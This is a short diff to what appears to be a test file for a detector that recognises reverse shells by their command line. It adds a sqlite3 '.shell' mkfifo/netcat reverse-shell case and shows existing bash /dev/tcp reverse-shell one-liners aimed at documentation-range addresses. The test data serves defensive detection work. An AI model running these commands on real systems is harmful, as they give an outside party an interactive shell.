@@ -7,6 +7,7 @@ import { clear, ShellHost } from "./testing/shell-host.ts";
 
 describe("reverse shell by its command line", () => {
   test.each([
+    "sqlite3 x.db '.shell mkfifo q; cat q | sh -i | nc 192.0.2.7 80 > q'",
     "bash -i >& /dev/tcp/192.0.2.9/8443 0>&1",
     "exec 7<>/dev/tcp/192.0.2.9/8443; sh <&7 >&7 2>&7",
     "exec 7<>/dev/tcp/192.0.2.9/8443; cat <&7 | while read l; do $l >&7 2>&7; done",
